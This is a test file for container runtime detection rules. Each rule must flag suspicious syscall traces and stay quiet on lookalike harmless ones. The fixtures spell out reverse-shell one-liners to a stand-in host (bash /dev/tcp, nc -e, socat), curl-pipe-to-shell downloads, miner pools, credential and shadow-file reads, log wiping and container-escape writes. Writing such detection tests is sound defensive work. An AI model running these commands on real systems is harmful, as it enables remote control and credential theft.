import { describe, expect, it } from 'vitest';
import { type CallTrace, internet } from '../../test/support/call-trace.ts';
import { judgeTrace, ordinarySource } from '../../test/support/judged-calls.ts';
import { createCallJudge } from './call-rules/judge-calls.ts';
import { starterCallRules } from './starter-call-rules.ts';

const texts = starterCallRules();

type Write = (trace: CallTrace) => unknown;

/** The container's first process is a server, as root. */
const served =
  (write: Write): Write =>
  (trace) =>
    write(trace.process(1, '/usr/sbin/nginx'));

const connection = { kind: 'socket', protocol: 'tcp', remote: internet('203.0.113.7', 4444) } as const;
const pipe = { kind: 'other', text: 'pipe:[1]' } as const;

/** The service scan's connection, or one of the image to itself, as the server that accepts it has it. */
const scanned = { kind: 'socket', protocol: 'tcp', remote: internet('127.0.0.1', 45_454) } as const;
const caller = { kind: 'socket', protocol: 'tcp', remote: internet('192.0.2.2', 45_454) } as const;
const accepted =
  (pid: number, write: Write): Write =>
  (trace) =>
    write(
      trace.call(pid, 'accept4', { kind: 'accept', address: internet('::ffff:127.0.0.1', 45_454), protocol: 'tcp' }),
    );

/** lighttpd reads what a command writes as a part of its configuration. */
const includes =
  (command: string): Write =>
  (trace) =>
    trace.run(1, 2, '/usr/sbin/lighttpd').run(2, 3, '/bin/sh', ['/bin/sh', '-c', command]);

/** For each rule: traces that it must tell, and others like them that it must not. */
const cases: Readonly<Record<string, { readonly fires: readonly Write[]; readonly silent: readonly Write[] }>> = {
  'call-shell-at-connection': {
    fires: [
      (t) => t.run(1, 2, '/bin/bash', ['bash', '-i']).connect(2, '203.0.113.7', 4444).duplicate(2, connection, 0),
      // A program redirects, and then becomes a shell.
      (t) => t.run(1, 2, '/opt/agent').duplicate(2, connection, 0).duplicate(2, connection, 1).exec(2, '/bin/sh'),
      (t) => t.run(1, 2, '/usr/bin/python3').duplicate(2, connection, 0).run(2, 3, '/bin/sh'),
      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'sh', '-i']).duplicate(2, connection, 0),
      // A shell behind a port: whoever asks it, be it the service scan, is the first to find it.
      accepted(1, (t) => t.fork(1, 2).duplicate(2, scanned, 0).duplicate(2, scanned, 1).exec(2, '/bin/sh')),
      accepted(1, (t) => t.fork(1, 2).duplicate(2, scanned, 0).exec(2, '/bin/busybox', ['busybox', 'sh', '-i'])),
      accepted(1, (t) => t.fork(1, 2).duplicate(2, scanned, 0).exec(2, '/proc/self/exe', ['sh'])),
      accepted(2, (t) =>
        t.run(1, 2, '/usr/bin/perl', ['perl', '/x.pl']).duplicate(2, scanned, 0).duplicate(2, scanned, 2),
      ),
      // A client of a shell of the image's own.
      (t) => t.fork(1, 2).connect(2, '127.0.0.1', 45_454).duplicate(2, scanned, 0).exec(2, '/bin/sh', ['sh', '/x.sh']),
    ],
    silent: [
      // Servers that are started for each connection have it as their input.
      (t) =>
        t
          .run(1, 2, '/usr/sbin/sshd')
          .duplicate(2, connection, 0)
          .duplicate(2, connection, 1)
          .duplicate(2, pipe, 0)
          .run(2, 3, '/bin/bash'),
      (t) => t.run(1, 2, '/bin/sh').duplicate(2, pipe, 0).duplicate(2, { kind: 'file', path: '/dev/null' }, 1),
      (t) => t.run(1, 2, '/bin/bash').duplicate(2, connection, 9),
      // busybox(1): one program is many. This one serves each connection as its input and output.
      accepted(2, (t) =>
        t.run(1, 2, '/bin/busybox', ['busybox', 'httpd', '-f']).duplicate(2, scanned, 0).duplicate(2, scanned, 1),
      ),
      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'httpd', '-f']).duplicate(2, connection, 0),
      (t) => t.fork(1, 2).duplicate(2, connection, 0).exec(2, '/bin/busybox', ['ftpd', '/srv']),
      // Net::Server of Perl, and a script that a super-server starts.
      accepted(2, (t) =>
        t.run(1, 2, '/usr/bin/perl', ['perl', '/x.pl']).duplicate(2, scanned, 0).duplicate(2, scanned, 1),
      ),
      accepted(1, (t) => t.fork(1, 2).duplicate(2, scanned, 0).exec(2, '/bin/sh', ['sh', '/srv/answer.sh'])),
      // The service scan comes from an address of its own where it can.
      (t) =>
        t
          .run(1, 2, '/usr/bin/perl', ['perl', '/x.pl'])
          .call(2, 'accept4', { kind: 'accept', address: caller.remote, protocol: 'tcp' })
          .duplicate(2, caller, 0)
          .duplicate(2, caller, 1),
      accepted(1, (t) => t.fork(1, 2).duplicate(2, scanned, 0).exec(2, '/bin/sh', ['sh', '-c', 'uptime'])),
    ],
  },
  'call-shell-command': {
    fires: [
      (t) => t.run(1, 2, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']),
      (t) => t.run(1, 2, '/bin/nc', ['nc', '-e', '/bin/sh', '203.0.113.7', '4444']),
      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'nc', '-l', '-p', '4444', '-e', '/bin/sh']),
      (t) => t.run(1, 2, '/usr/bin/socat', ['socat', 'TCP:203.0.113.7:4444', 'EXEC:/bin/sh']),
      (t) =>
        t.run(1, 2, '/usr/bin/python3', ['python3', '-c', 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)']),
    ],
    silent: [
      (t) => t.run(1, 2, '/bin/nc', ['nc', '-z', 'db', '5432']),
      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'httpd', '-f', '-c', '/etc/httpd.conf', '-h', '/usr/share/www']),
      (t) => t.run(1, 2, '/usr/bin/python3', ['python3', '-c', 'import socket; print(socket.gethostname())']),
      (t) => t.run(1, 2, '/bin/sh', ['sh', '-c', 'echo /dev/null']),
    ],
  },
  'call-shell-below-server': {
    fires: [
      served((t) => t.run(1, 2, '/bin/sh', ['sh', '-c', 'id'])),
      (t) => t.run(1, 2, '/usr/sbin/php-fpm8.4').run(2, 3, '/bin/sh', ['sh', '-c', 'id']),
      served((t) => t.run(1, 2, '/bin/busybox', ['busybox', 'sh', '-c', 'id'])),
      includes('/usr/share/lighttpd/use-ipv6.pl 80; id'),
      includes('/srv/www/use-ipv6.pl 80'),
    ],
    silent: [
      // What Debian's configuration of it includes (lighttpd's documentation, include_shell).
      includes('/usr/share/lighttpd/use-ipv6.pl 80'),
      includes('/usr/share/lighttpd/create-mime.conf.pl'),
      served((t) => t.run(1, 2, '/bin/busybox', ['busybox', 'date'])),
      (t) => t.run(1, 2, '/bin/sh', ['sh', '-c', 'id']),
      (t) => t.run(1, 2, '/usr/sbin/apache2').run(2, 3, '/bin/sh', ['sh', '-c', '/usr/bin/rotatelogs x']),
      served((t) => t.run(1, 2, '/usr/sbin/nginx')),
    ],
  },
  'call-miner': {
    fires: [
      (t) => t.run(1, 2, '/usr/bin/xmrig'),
      (t) => t.run(1, 2, '/usr/bin/worker', ['worker', '-o', 'stratum+tcp://a.example:3333']),
      (t) => t.run(1, 2, '/usr/bin/worker', ['worker', '--donate-level=1']),
    ],
    silent: [(t) => t.run(1, 2, '/usr/bin/worker', ['worker', '-o', 'tcp://a.example:3333'])],
  },
  'call-pool-name': {
    fires: [
      (t) => t.ask(1, 'pool.MineXMR.com.'),
      (t) => t.ask(1, 'eu.xmr.2miners.com'),
      (t) => t.ask(1, 'xmr.example'),
    ],
    silent: [(t) => t.ask(1, 'pool.ntp.org'), (t) => t.ask(1, 'minexmr.com.example')],
  },
  'call-pool-port': {
    fires: [
      (t) => t.connect(1, '203.0.113.7', 3333, { error: 'EINPROGRESS' }),
      (t) => t.connect(1, '203.0.113.7', 14444, { error: 'ENETUNREACH' }),
    ],
    silent: [(t) => t.connect(1, '127.0.0.1', 3333), (t) => t.connect(1, '203.0.113.7', 443)],
  },
  'call-tor': {
    fires: [(t) => t.run(1, 2, '/usr/bin/tor'), (t) => t.ask(1, 'abc.onion'), (t) => t.connect(1, '127.0.0.1', 9050)],
    silent: [
      (t) => t.run(1, 2, '/usr/bin/toruler'),
      (t) => t.ask(1, 'onion.example'),
      (t) => t.connect(1, '127.0.0.1', 9051 + 1),
    ],
  },
  'call-dropped-program': {
    fires: [
      (t) => t.write(1, '/tmp/dropped').chmod(1, '/tmp/dropped', 0o755).run(1, 2, '/tmp/dropped'),
      (t) => t.write(1, '/tmp/a').rename(1, '/tmp/a', '/opt/b').run(1, 2, '/opt/b'),
      (t) => t.write(1, '/tmp/x.sh').run(1, 2, '/bin/sh', ['sh', '/tmp/x.sh']),
      (t) => t.write(1, '/tmp/x.sh').run(1, 2, '/bin/busybox', ['busybox', 'sh', '/tmp/x.sh']),
    ],
    silent: [
      (t) => t.write(1, '/tmp/redis.conf').run(1, 2, '/usr/bin/redis-server', ['redis-server', '/tmp/redis.conf']),
      (t) => t.run(1, 2, '/usr/bin/tool'),
      (t) => t.write(1, '/tmp/x.html').run(1, 2, '/bin/busybox', ['busybox', 'cat', '/tmp/x.html']),
      (t) => t.write(1, '/tmp/a').remove(1, '/tmp/a').run(1, 2, '/tmp/b'),
      (t) => t.run(1, 2, '/usr/bin/dpkg').write(2, '/tmp/postinst').run(2, 3, '/tmp/postinst'),
    ],
  },
  'call-fetched-and-run': {
    fires: [
      (t) => t.run(1, 2, '/bin/sh', ['sh', '-c', 'curl -fsSL https://a.example/x | sh']),
      (t) => t.run(1, 2, '/bin/bash', ['bash', '-c', 'wget -qO- http://a.example | sudo /bin/bash -s x']),
      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'sh', '-c', 'wget -qO- http://a.example | sh']),
    ],
    silent: [
      (t) => t.run(1, 2, '/bin/sh', ['sh', '-c', 'curl -f http://localhost/health || exit 1']),
      (t) => t.run(1, 2, '/bin/sh', ['sh', '-c', 'curl x | shasum']),
    ],
  },
  'call-program-from-temporary-folder': {
    fires: [(t) => t.run(1, 2, '/tmp/x'), (t) => t.run(1, 2, '/dev/shm/.x/y')],
    silent: [(t) => t.run(1, 2, '/usr/bin/x', ['/tmp/x']), (t) => t.run(1, 2, '/opt/tmp/x')],
  },
  'call-package-manager': {
    fires: [
      (t) => t.run(1, 2, '/usr/bin/apt-get', ['apt-get', 'install', 'nmap']),
      (t) => t.run(1, 2, '/sbin/apk', ['apk', 'add', 'x']),
      (t) => t.run(1, 2, '/usr/bin/pip3', ['pip3', 'install', 'x']),
      (t) => t.run(1, 2, '/usr/bin/python3', ['python3', '-m', 'pip', 'install', 'x']),
      (t) => t.run(1, 2, '/usr/bin/dpkg', ['dpkg', '-i', 'x.deb']),
    ],
    silent: [
      (t) => t.run(1, 2, '/usr/bin/npm', ['npm', 'start']),
      (t) => t.run(1, 2, '/usr/bin/dpkg', ['dpkg', '--print-architecture']),
      (t) => t.run(1, 2, '/usr/bin/rpm', ['rpm', '-qi', 'bash']),
      (t) => t.run(1, 2, '/usr/bin/pip3', ['pip3', 'list']),
    ],
  },
  'call-schedule-written': {
    fires: [
      (t) => t.write(1, '/etc/cron.d/new'),
      (t) => t.write(1, '/etc/crontab'),
      (t) => t.write(1, '/tmp/crontab.1').rename(1, '/tmp/crontab.1', '/var/spool/cron/crontabs/root'),
      (t) => t.write(1, '/etc/systemd/system/new.service'),
    ],
    silent: [
      (t) => t.open(1, '/etc/cron.d/x'),
      (t) => t.run(1, 2, '/usr/bin/dpkg').write(2, '/etc/cron.d/new'),
      (t) => t.open(1, '/etc/cron.d/x', 'write', {}, 'EACCES'),
    ],
  },
  'call-preload-written': {
    fires: [(t) => t.write(1, '/etc/ld.so.preload'), (t) => t.write(1, '/x').rename(1, '/x', '/etc/ld.so.preload')],
    silent: [
      (t) => t.open(1, '/etc/ld.so.preload'),
      (t) => t.write(1, '/etc/ld.so.cache'),
      (t) => t.call(1, 'access', { kind: 'access', path: '/etc/ld.so.preload' }, { error: 'ENOENT' }),
    ],
  },
  'call-program-overwritten': {
    fires: [(t) => t.write(1, '/usr/bin/ls'), (t) => t.write(1, '/tmp/x').rename(1, '/tmp/x', '/usr/bin/ls')],
    silent: [
      (t) => t.write(1, '/usr/share/x'),
      (t) => t.open(1, '/usr/bin/ls'),
      (t) => t.run(1, 2, '/usr/bin/dpkg').write(2, '/usr/bin/ls'),
    ],
  },
  'call-new-program': {
    fires: [(t) => t.write(1, '/usr/local/bin/new')],
    silent: [(t) => t.write(1, '/usr/bin/ls'), (t) => t.write(1, '/opt/new')],
  },
  'call-setuid-set': {
    fires: [
      (t) => t.chmod(1, '/tmp/x', 0o4755),
      (t) => t.call(1, 'setxattr', { kind: 'setxattr', path: '/tmp/x', name: 'security.capability' }),
      (t) => t.run(1, 2, '/usr/sbin/setcap', ['setcap', 'cap_net_raw+ep', '/tmp/x']),
    ],
    silent: [
      (t) => t.chmod(1, '/var/run/postgresql', 0o3777),
      (t) => t.call(1, 'setxattr', { kind: 'setxattr', path: '/tmp/x', name: 'user.x' }),
      (t) => t.call(1, 'chmod', { kind: 'chmod', path: '/tmp/x', mode: 0o4755 }, { error: 'EPERM' }),
    ],
  },
  'call-authorized-keys': {
    fires: [
      (t) => t.open(1, '/root/.ssh/authorized_keys', 'write'),
      (t) => t.write(1, '/t').rename(1, '/t', '/home/a/.ssh/authorized_keys2'),
    ],
    silent: [(t) => t.open(1, '/root/.ssh/authorized_keys'), (t) => t.write(1, '/root/.ssh/known_hosts')],
  },
  'call-passwords-written': {
    fires: [
      (t) => t.open(1, '/etc/shadow', 'write'),
      (t) => t.write(1, '/etc/sudoers.d/new'),
      (t) => t.rename(1, '/etc/shadow+', '/etc/shadow'),
    ],
    silent: [
      (t) => t.open(1, '/etc/shadow'),
      (t) => t.write(1, '/etc/nginx/x'),
      (t) => t.run(1, 2, '/usr/bin/dpkg').run(2, 3, '/usr/sbin/useradd').rename(3, '/etc/shadow+', '/etc/shadow'),
    ],
  },
  'call-users-written': {
    fires: [(t) => t.open(1, '/etc/passwd', 'read-write'), (t) => t.rename(1, '/etc/passwd+', '/etc/passwd')],
    silent: [(t) => t.open(1, '/etc/passwd')],
  },
  'call-shell-start-written': {
    fires: [(t) => t.write(1, '/root/.bashrc'), (t) => t.write(1, '/etc/profile.d/new.sh')],
    silent: [(t) => t.open(1, '/root/.bashrc'), (t) => t.write(1, '/root/.config')],
  },
  'call-core-pattern': {
    fires: [
      (t) => t.open(1, '/proc/sys/kernel/core_pattern', 'write', {}, 'EROFS'),
      (t) => t.open(1, '/host/proc/sys/kernel/core_pattern', 'write'),
    ],
    silent: [(t) => t.open(1, '/proc/sys/kernel/core_pattern')],
  },
  'call-release-agent': {
    fires: [
      (t) => t.open(1, '/sys/fs/cgroup/rdma/release_agent', 'write', {}, 'EROFS'),
      (t) => t.open(1, '/tmp/c/x/notify_on_release', 'write'),
    ],
    silent: [(t) => t.open(1, '/sys/fs/cgroup/rdma/release_agent'), (t) => t.write(1, '/tmp/release')],
  },
  'call-kernel-setting': {
    fires: [
      (t) => t.open(1, '/proc/sysrq-trigger', 'write', {}, 'EROFS'),
      (t) => t.open(1, '/proc/sys/vm/overcommit_memory', 'write'),
    ],
    silent: [(t) => t.open(1, '/proc/sys/vm/overcommit_memory'), (t) => t.open(1, '/proc/self/oom_score_adj', 'write')],
  },
  'call-engine-socket': {
    fires: [
      (t) =>
        t.call(
          1,
          'connect',
          { kind: 'connect', address: { family: 'unix', path: '/var/run/docker.sock' } },
          { error: 'ENOENT' },
        ),
    ],
    silent: [
      (t) =>
        t.call(
          1,
          'connect',
          { kind: 'connect', address: { family: 'unix', path: '/var/run/nscd/socket' } },
          { error: 'ENOENT' },
        ),
    ],
  },
  'call-cloud-metadata': {
    fires: [
      (t) => t.connect(1, '169.254.169.254', 80, { error: 'ENETUNREACH' }),
      (t) => t.ask(1, 'metadata.google.internal'),
    ],
    silent: [(t) => t.connect(1, '169.254.1.1', 80), (t) => t.ask(1, 'google.internal')],
  },
  'call-kernel-module': {
    fires: [
      (t) => t.call(1, 'finit_module', { kind: 'module' }, { error: 'EPERM' }),
      (t) => t.run(1, 2, '/sbin/insmod', ['insmod', 'x.ko']),
      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'insmod', 'x.ko']),
    ],
    silent: [(t) => t.run(1, 2, '/sbin/lsmod'), (t) => t.open(1, '/proc/modules')],
  },
  'call-mount': {
    fires: [
      (t) => t.call(1, 'mount', { kind: 'mount', from: '/dev/sda1', path: '/mnt', type: 'ext4' }, { error: 'EPERM' }),
    ],
    silent: [(t) => t.open(1, '/proc/mounts'), (t) => t.call(1, 'umount2', { kind: 'umount', path: '/x' })],
  },
  'call-namespace': {
    fires: [
      (t) => t.call(1, 'unshare', { kind: 'namespace', flags: ['CLONE_NEWUSER'] }),
      (t) => t.call(1, 'setns', { kind: 'namespace', flags: [] }, { error: 'EPERM' }),
    ],
    silent: [
      // vsftpd isolates what serves a client so.
      (t) => t.call(1, 'clone', { kind: 'namespace', flags: ['CLONE_NEWIPC', 'CLONE_NEWPID', 'CLONE_NEWNET'] }),
      (t) => t.call(1, 'unshare', { kind: 'namespace', flags: ['CLONE_FS'] }),
    ],
  },
  'call-host-device': {
    fires: [(t) => t.open(1, '/dev/sda', 'read', {}, 'EPERM'), (t) => t.open(1, '/dev/mem', 'read')],
    silent: [(t) => t.open(1, '/dev/shm/x'), (t) => t.open(1, '/dev/null', 'write')],
  },
  'call-packet-socket': {
    fires: [(t) => t.call(1, 'socket', { kind: 'socket', family: 'AF_PACKET', type: 'SOCK_RAW' }, { error: 'EPERM' })],
    silent: [(t) => t.call(1, 'socket', { kind: 'socket', family: 'AF_INET', type: 'SOCK_STREAM' })],
  },
  'call-memory-program': {
    fires: [
      (t) =>
        t.call(1, 'memfd_create', { kind: 'memfd', name: 'x' }).fork(1, 2).exec(2, '/memfd:x', ['x'], { memory: true }),
    ],
    silent: [
      (t) => t.call(1, 'memfd_create', { kind: 'memfd', name: 'doublemapper' }),
      (t) => t.run(1, 2, '/usr/bin/memfd'),
    ],
  },
  'call-self-delete': {
    fires: [
      (t) => t.run(1, 2, '/tmp/x').remove(2, '/tmp/x'),
      (t) =>
        t.run(1, 2, '/bin/sh', ['sh', '/tmp/x.sh']).run(2, 3, '/bin/rm', ['rm', '/tmp/x.sh']).remove(3, '/tmp/x.sh'),
      (t) => t.run(1, 2, '/tmp/x').rename(2, '/tmp/x', '/tmp/.y'),
    ],
    silent: [
      (t) => t.run(1, 2, '/tmp/x').remove(2, '/tmp/y'),
      (t) => t.run(1, 2, '/bin/rm', ['rm', '/tmp/x']).remove(2, '/tmp/x'),
    ],
  },
  'call-environments-read': {
    fires: [(t) => t.open(1, '/proc/2/environ').open(1, '/proc/3/environ').open(1, '/proc/4/environ')],
    silent: [
      (t) =>
        t
          .open(1, '/proc/self/environ')
          .open(1, '/proc/1/environ')
          .open(1, '/proc/2/environ')
          .open(1, '/proc/2/environ')
          .open(1, '/proc/3/environ'),
      (t) => t.open(1, '/proc/2/status').open(1, '/proc/3/status').open(1, '/proc/4/status'),
    ],
  },
  'call-process-injection': {
    fires: [
      (t) => t.call(1, 'ptrace', { kind: 'ptrace', request: 'PTRACE_ATTACH', target: 9 }, { error: 'EPERM' }),
      (t) => t.open(1, '/proc/9/mem', 'read-write'),
    ],
    silent: [
      (t) => t.call(1, 'ptrace', { kind: 'ptrace', request: 'PTRACE_CONT', target: 9 }),
      (t) => t.open(1, '/proc/meminfo'),
    ],
  },
  'call-anti-debug': {
    fires: [
      (t) => t.call(1, 'ptrace', { kind: 'ptrace', request: 'PTRACE_TRACEME' }, { error: 'EPERM' }),
      (t) => t.call(1, 'newfstatat', { kind: 'stat', path: '/.s/strace' }),
    ],
    silent: [
      (t) => t.open(1, '/proc/self/status'),
      (t) => t.call(1, 'newfstatat', { kind: 'stat', path: '/.ssh' }, { error: 'ENOENT' }),
    ],
  },
  'call-long-pause': {
    fires: [
      (t) =>
        t.call(1, 'clock_nanosleep', { kind: 'sleep', argument: 'CLOCK_REALTIME, 0, {tv_sec=600, tv_nsec=0}, 0x7ffe' }),
    ],
    silent: [
      (t) =>
        t.call(1, 'clock_nanosleep', { kind: 'sleep', argument: 'CLOCK_REALTIME, 0, {tv_sec=60, tv_nsec=0}, NULL' }),
      (t) =>
        t.call(1, 'clock_nanosleep', {
          kind: 'sleep',
          argument: 'CLOCK_REALTIME, 0, {tv_sec=9223372036854775807, tv_nsec=999999999}, 0x7ffe',
        }),
      (t) =>
        t.call(1, 'clock_nanosleep', {
          kind: 'sleep',
          argument: 'CLOCK_MONOTONIC, TIMER_ABSTIME, {tv_sec=123456, tv_nsec=0}, NULL',
        }),
      (t) => {
        t.at += 60;
        t.call(1, 'clock_nanosleep', { kind: 'sleep', argument: '{tv_sec=600, tv_nsec=0}' });
      },
    ],
  },
  'call-mass-rewriting': {
    fires: [
      (t) => each(50, (n) => t.rename(1, `/srv/${n}.txt`, `/srv/${n}.txt.locked`)),
      (t) => each(50, (n) => t.write(1, `/srv/${n}.txt.enc`).remove(1, `/srv/${n}.txt`)),
      (t) => each(50, (n) => t.open(1, `/srv/${n}.txt`, 'read-write')),
      // A shell starts a program for each file.
      (t) => each(50, (n) => t.run(1, 100 + n, '/usr/bin/openssl').write(100 + n, `/srv/${n}.txt`)),
    ],
    silent: [
      (t) => each(50, (n) => t.write(1, `/tmp/${n}`).rename(1, `/tmp/${n}`, `/tmp/x${n}`)),
      (t) => each(50, (n) => t.remove(1, `/srv/${n}.txt`)),
      (t) => each(500, (n) => t.open(1, `/var/lib/mysql/${n}.ibd`, 'read-write')),
      (t) => each(39, (n) => t.write(1, `/srv/${n}.txt`)),
      (t) =>
        each(60, (n) => {
          t.at += 1;
          t.write(1, `/srv/${n}.txt`);
        }),
      (t) => each(50, () => t.write(1, '/srv/log.txt')),
    ],
  },
  'call-history-removed': {
    fires: [
      (t) => t.write(1, '/root/.bash_history'),
      (t) => t.remove(1, '/root/.zsh_history'),
      (t) => t.call(1, 'symlink', { kind: 'symlink', path: '/dev/null', to: '/root/.bash_history' }),
    ],
    silent: [
      (t) => t.open(1, '/root/.bash_history', 'write', { creates: true }),
      (t) => t.open(1, '/root/.bash_history'),
    ],
  },
  'call-logs-cleared': {
    fires: [
      (t) => t.write(1, '/var/log/wtmp'),
      (t) => t.remove(1, '/var/log/auth.log'),
      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'rm', 'x']).remove(2, '/var/log/auth.log'),
    ],
    silent: [
      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'syslogd']).write(2, '/var/log/syslog'),
      (t) => t.open(1, '/var/log/wtmp', 'write'),
      (t) => t.write(1, '/var/log/nginx/access.log'),
      (t) => t.run(1, 2, '/usr/sbin/logrotate').write(2, '/var/log/syslog'),
    ],
  },
  'call-shadow-read': {
    fires: [(t) => t.run(1, 2, '/bin/cat').open(2, '/etc/shadow')],
    silent: [
      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'login']).open(2, '/etc/shadow'),
      (t) => t.run(1, 2, '/usr/sbin/sshd').open(2, '/etc/shadow'),
      (t) => t.run(1, 2, '/bin/cat').open(2, '/etc/passwd'),
      (t) => t.run(1, 2, '/bin/cat').open(2, '/etc/shadow', 'read', {}, 'EACCES'),
    ],
  },
  'call-credentials-read': {
    fires: [
      (t) => t.run(1, 2, '/bin/cat').open(2, '/root/.ssh/id_rsa'),
      (t) => t.run(1, 2, '/bin/tar').open(2, '/home/a/.aws/credentials'),
      (t) => t.run(1, 2, '/bin/busybox', ['busybox', 'cat', 'x']).open(2, '/root/.ssh/id_rsa'),
    ],
    silent: [
      (t) => t.run(1, 2, '/usr/bin/ssh').open(2, '/root/.ssh/id_rsa'),
      (t) => t.run(1, 2, '/usr/bin/aws').open(2, '/root/.aws/credentials'),
    ],
  },
  'call-network-tool': {
    fires: [(t) => t.run(1, 2, '/usr/bin/nmap', ['nmap', '-sS', '10.0.0.0/8'])],
    silent: [(t) => t.run(1, 2, '/bin/ping'), (t) => t.open(1, '/usr/bin/nmap')],
  },
};

function each(times: number, write: (number: number) => unknown): void {
  for (let number = 0; number < times; number++) write(number);
}

const ids = async (write: Write): Promise<readonly string[]> =>
  (await judgeTrace(texts, (trace) => write(trace.process(1, '/usr/bin/entry')))).map(({ rule }) => rule.id);

describe('our own rules on calls', () => {
  it('are read without complaint, and all of them can be asked', async () => {
    const { complaints, statuses } = await createCallJudge(texts, ordinarySource, { get: () => undefined });
    expect(complaints).toEqual([]);
    expect(statuses.filter(({ state }) => state !== 'evaluable')).toEqual([]);
    expect(statuses.map(({ rule }) => rule.id).sort()).toEqual(Object.keys(cases).sort());
  });

  it('say what they are, why it matters and what helps', async () => {
    const { statuses } = await createCallJudge(texts, ordinarySource, { get: () => undefined });
    for (const { rule } of statuses) {
      expect(rule.id).toMatch(/^call-[a-z-]+$/);
      expect(rule.description.length).toBeGreaterThan(20);
      expect(rule.remediation?.length).toBeGreaterThan(10);
      expect(rule.source).toMatchObject({ name: 'drydock', url: expect.stringMatching(/^https:/) as string });
    }
  });

  for (const [id, { fires, silent }] of Object.entries(cases)) {
    describe(id, () => {
      it.each(fires.map((write, index) => [index + 1, write] as const))('is told of trace %i', async (_, write) => {
        expect(await ids(write)).toContain(id);
      });

      it.each(silent.map((write, index) => [index + 1, write] as const))(
        'is not told of harmless trace %i',
        async (_, write) => {
          expect(await ids(write)).not.toContain(id);
        },
      );
    });
  }

  it('say nothing of a service that starts as services do', async () => {
    const start: Write = (t) =>
      t
        .run(1, 2, '/bin/sh', ['sh', '/docker-entrypoint.sh'])
        .open(2, '/etc/passwd')
        .run(2, 3, '/bin/chown', ['chown', '-R', 'web', '/var/lib/web'])
        .chmod(3, '/var/lib/web', 0o2755)
        .run(2, 4, '/usr/bin/sed')
        .write(4, '/etc/web/sed1')
        .rename(4, '/etc/web/sed1', '/etc/web/web.conf')
        .exec(2, '/usr/sbin/web')
        .call(2, 'setuid', { kind: 'credentials', uid: 33 })
        .open(2, '/proc/self/status')
        .open(2, '/var/lib/web/db', 'read-write', { creates: true })
        .write(2, '/run/web.pid')
        .ask(2, 'db.internal')
        .connect(2, '10.0.0.3', 5432);
    expect(await ids(start)).toEqual([]);
  });
});
